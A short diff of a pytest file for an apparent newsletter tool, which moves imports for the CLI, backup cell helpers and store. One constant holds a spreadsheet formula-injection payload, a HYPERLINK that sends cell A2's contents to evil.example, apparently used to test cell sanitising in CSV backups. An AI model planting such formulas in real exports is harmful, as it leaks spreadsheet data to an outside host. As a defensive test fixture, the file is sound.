@@ -16,9 +16,9 @@ import pytest
 from click.testing import CliRunner
 
 from list_support import PostgresCluster, postgres_or_skip
-from tipweek.cli import main
-from tipweek.subscriptions.backup import plain_cell, safe_cell
-from tipweek.subscriptions.store import open_store
+from tipweek.cli.main import main
+from tipweek.list.backup import plain_cell, safe_cell
+from tipweek.list.database import open_store
 
 NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.timezone.utc)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
